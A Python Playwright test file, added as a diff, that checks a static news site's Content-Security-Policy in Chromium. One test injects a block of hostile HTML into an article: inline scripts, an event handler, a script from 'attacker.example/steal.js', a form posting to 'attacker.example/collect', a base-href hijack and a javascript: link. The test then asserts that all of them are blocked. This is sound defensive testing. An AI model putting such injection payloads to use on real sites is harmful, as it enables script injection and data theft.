@@ -1,0 +1,223 @@
+"""The Content-Security-Policy in Chromium.
+
+Nothing the site does is refused: every page of every kind in every language, searches with results
+(in Pagefind's web worker and, when the worker fails, in the page), the calendar's re-sort, the language
+switcher, Material's header and tooltips. And the policy bites: inline scripts, event handlers, foreign
+scripts, frames, styles, <base>, plugins and forms added to a built page are refused."""
+
+from __future__ import annotations
+
+import datetime as dt
+import functools
+import http.server
+import shutil
+import threading
+from contextlib import contextmanager
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+
+from cluster_news.core.schema import SECTIONS
+
+from browser import chromium_page
+from conftest import HOME_TITLES, LANGUAGES, SITE_URL, Built, build_site
+from fixture_content import write_fixture_content
+
+ROOTS = {lang: "" if lang == "en" else f"{lang}/" for lang in LANGUAGES}
+MOUNT = "/" + SITE_URL.split("/", 3)[3]  # "/clusters-site/": served under its sub-path, as on GitHub Pages
+QUERIES = {"en": "clusters4health", "uk": "картування", "bg": "София", "ro": "lantului", "pl": "Witamy"}
+ABOUT = {"en": "About", "uk": "Про нас", "bg": "За нас", "ro": "Despre", "pl": "O nas"}
+# Listens from the start of every document; reports go to Python through an exposed function.
+LISTEN = """document.addEventListener("securitypolicyviolation", event => window.cnViolation({
+  page: location.pathname, directive: event.effectiveDirective, blocked: event.blockedURI, sample: event.sample}));"""
+
+
+def write_site(site) -> None:
+    write_fixture_content(site)
+    for lang in LANGUAGES:  # every kind of page in every language
+        site.write(f"{lang}/index.md", {"title": HOME_TITLES[lang]}, "Witamy.\n" if lang == "pl" else "Welcome.\n")
+        site.write(f"{lang}/about.md", {"title": ABOUT[lang]},  # headings: their permalinks have tooltips
+                   "".join(f"## Part {n}\n\n" + "A line of text.\n\n" * 30 for n in range(1, 4)))
+        site.write(f"{lang}/news/assembly.md", {"title": f"Assembly ({lang})", "date": "2025-06-02", "tags": ["net"]})
+        site.write(f"{lang}/events/assembly.md", {"title": f"Assembly ({lang})", "start": "2025-09-10"})
+        site.write(f"{lang}/projects/assembly.md", {"title": f"Assembly ({lang})"})
+        site.write(f"{lang}/clusters/assembly.md", {"title": f"Assembly ({lang})"})
+    site.write("en/news/index.md", {"title": "News"}, "What the network is doing.\n")  # a section's introduction
+
+
+@pytest.fixture(scope="module")
+def built(tmp_path_factory) -> Built:
+    return build_site(tmp_path_factory, "csp", write_site)
+
+
+class _PagesHandler(http.server.SimpleHTTPRequestHandler):
+    """Like GitHub Pages: the site under its sub-path, and the root 404.html for a missing address."""
+
+    def log_message(self, *args) -> None:
+        pass
+
+    def send_error(self, code, message=None, explain=None) -> None:
+        page = Path(self.directory) / MOUNT.strip("/") / "404.html"
+        if code != 404 or not page.exists():
+            return super().send_error(code, message, explain)
+        body = page.read_bytes()
+        self.send_response(404)
+        self.send_header("Content-Type", "text/html; charset=utf-8")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+
+@contextmanager
+def serve_under_sub_path(site: Path):
+    root = site.parent / "served"
+    if not root.exists():
+        root.mkdir()
+        (root / MOUNT.strip("/")).symlink_to(site, target_is_directory=True)
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_PagesHandler, directory=str(root)))
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}{MOUNT}"
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@contextmanager
+def watched_page():
+    """A Chromium page that collects CSP violations in `page.violations` and started workers in `page.started_workers`,
+    besides console errors in `page.problems`."""
+    with chromium_page() as page:
+        page.violations, page.started_workers = [], []
+        page.expose_function("cnViolation", lambda violation: page.violations.append(violation))
+        page.add_init_script(LISTEN)
+        page.on("worker", lambda worker: page.started_workers.append(worker.url))
+        yield page
+
+
+def search(page, query: str) -> list[str]:
+    page.fill(".pagefind-ui__search-input", query)
+    page.wait_for_selector(".pagefind-ui__result-link")
+    page.keyboard.press("Enter")  # the search box is a form: submitting it must not leave the page
+    return page.locator(".pagefind-ui__result-link").evaluate_all("links => links.map(a => a.pathname)")
+
+
+def kind_of(url: str) -> str:
+    """The kind of a page, from its address under its language's root."""
+    parts = url.strip("/").split("/") if url else []
+    if not parts or parts == ["404.html"]:
+        return "home" if not parts else "404"
+    if parts[0] in ("search", "tags") and len(parts) == 1:
+        return parts[0]
+    if parts[0] == "tags":
+        return "tag"
+    if parts[0] in SECTIONS:
+        if len(parts) == 1:
+            return f"{parts[0]} index"
+        if parts[1] == "page":
+            return "news pagination"
+        return "month" if parts[1].isdigit() else f"{parts[0]} item"
+    return "page"
+
+
+def one_page_of_each_kind(built: Built) -> dict[tuple[str, str], str]:
+    """(language, kind) -> the first such page's address."""
+    chosen = {}
+    for url in built.pages() + [f"{root}404.html" for root in ROOTS.values()]:
+        lang = url.split("/")[0] if url.split("/")[0] in ROOTS else "en"
+        chosen.setdefault((lang, kind_of(url.removeprefix(ROOTS[lang]))), url)
+    return chosen
+
+
+def test_every_page_kind_in_every_language_runs_under_the_policy(built):
+    chosen = one_page_of_each_kind(built)
+    kinds = {kind for _, kind in chosen}
+    assert kinds == {"home", "page", "search", "tags", "tag", "404", "news index", "news item", "news pagination",
+                     "events index", "events item", "month", "projects index", "projects item", "clusters index",
+                     "clusters item"}
+    assert len(chosen) == len(kinds) * len(LANGUAGES)
+    with serve_under_sub_path(built.site) as base, watched_page() as page:
+        page.clock.set_fixed_time(dt.datetime(2025, 7, 15, 9, 0))  # the calendar's script re-sorts events
+        for (lang, kind), url in chosen.items():
+            response = page.goto(base + url)
+            assert response.status == 200, (kind, url)
+            assert page.locator("html").get_attribute("lang") == lang, (kind, url)
+        page.goto(f"{base}events/")  # built on 1 July, read on 15 July
+        assert "Week in progress" in page.locator('[data-cn-events="past"] .cn-entry__title a').all_inner_texts()
+        response = page.goto(f"{base}uk/no-such-page/")  # GitHub Pages answers with the root 404.html
+        assert response.status == 404 and page.locator("h1").inner_text() == "Page not found"
+        assert page.problems.pop().endswith("status of 404 (Not Found)")  # the page's own status
+        page.goto(f"{base}about/")
+        page.hover(".headerlink >> nth=1")  # Material's tooltip on a heading's permalink
+        page.wait_for_selector(".md-tooltip2--active")
+        page.mouse.wheel(0, 2000)  # Material's header shows the page title once the heading scrolls away
+        page.wait_for_selector(".md-header__title--active")
+        for lang, root in ROOTS.items():
+            page.goto(f"{base}{root}search/")
+            found = search(page, QUERIES[lang])
+            assert found and all(link.startswith(f"{MOUNT}{root}") for link in found), (lang, found)
+            page.locator(".md-select").first.hover()
+            other = LANGUAGES[(LANGUAGES.index(lang) + 1) % len(LANGUAGES)]
+            page.click(f'a.md-select__link[hreflang="{other}"]')
+            assert page.url == f"{base}{ROOTS[other]}search/"
+        assert [url for url in page.started_workers if url.endswith("/pagefind/pagefind-worker.js")]
+    assert page.violations == []
+    assert page.problems == []
+
+
+def test_search_in_the_page_when_pagefinds_worker_fails(built):
+    """Pagefind falls back to WebAssembly in the page (also after a 5 s worker timeout on a slow phone):
+    that is what 'wasm-unsafe-eval' is for."""
+    with serve_under_sub_path(built.site) as base, watched_page() as page:
+        page.route("**/pagefind-worker.js", lambda route: route.abort())
+        page.goto(f"{base}uk/search/")
+        assert search(page, "картування") == [f"{MOUNT}uk/news/mapping-workshop/"]
+    assert page.violations == []
+    assert [problem for problem in page.problems if "pagefind-worker.js" not in problem] == []
+
+
+INJECTED = """
+<script>window.cnRan = "inline script";</script>
+<img alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="window.cnRan = 'event handler'">
+<script src="https://attacker.example/steal.js"></script>
+<iframe title="foreign" src="https://attacker.example/frame"></iframe>
+<iframe title="allowed" src="https://www.youtube-nocookie.com/embed/x"></iframe>
+<style>body { background: red; }</style>
+<p style="color: red">styled</p>
+<base href="https://attacker.example/">
+<object data="https://attacker.example/plugin"></object>
+<form action="https://attacker.example/collect"><button id="cn-submit">Send</button></form>
+<a id="cn-javascript" href="javascript:window.cnRan = 'javascript: link'">link</a>
+"""
+
+
+def test_the_policy_refuses_what_an_article_could_smuggle_in(built, tmp_path):
+    site = tmp_path / "site"
+    shutil.copytree(built.site, site)
+    article = site / "news" / "mapping-workshop" / "index.html"
+    html = article.read_text(encoding="utf-8")
+    assert html.count("</article>") == 1
+    article.write_text(html.replace("</article>", INJECTED + "</article>"), encoding="utf-8")
+    with serve_under_sub_path(site) as base, watched_page() as page:
+        requested = []
+        page.route("https://**/*", lambda route: (requested.append(route.request.url),
+                                                  route.fulfill(content_type="text/html", body="<p>frame</p>")))
+        page.goto(f"{base}news/mapping-workshop/")
+        page.click("#cn-javascript", no_wait_after=True)
+        page.click("#cn-submit", no_wait_after=True)
+        page.wait_for_timeout(200)
+        ran = page.evaluate("window.cnRan")
+        background = page.evaluate("getComputedStyle(document.body).backgroundColor")
+        assert page.url == f"{base}news/mapping-workshop/"
+    assert ran is None
+    assert background != "rgb(255, 0, 0)"
+    refused = sorted((violation["directive"], urlsplit(violation["blocked"]).netloc or violation["blocked"])
+                     for violation in page.violations)
+    assert refused == sorted([
+        ("script-src-elem", "inline"), ("script-src-attr", "inline"), ("script-src-elem", "inline"),  # javascript:
+        ("script-src-elem", "attacker.example"), ("frame-src", "attacker.example"), ("style-src-elem", "inline"),
+        ("style-src-attr", "inline"), ("base-uri", "attacker.example"), ("object-src", "attacker.example"),
+        ("form-action", "attacker.example"),
+    ])
+    assert requested == ["https://www.youtube-nocookie.com/embed/x"]  # the one allowed embed
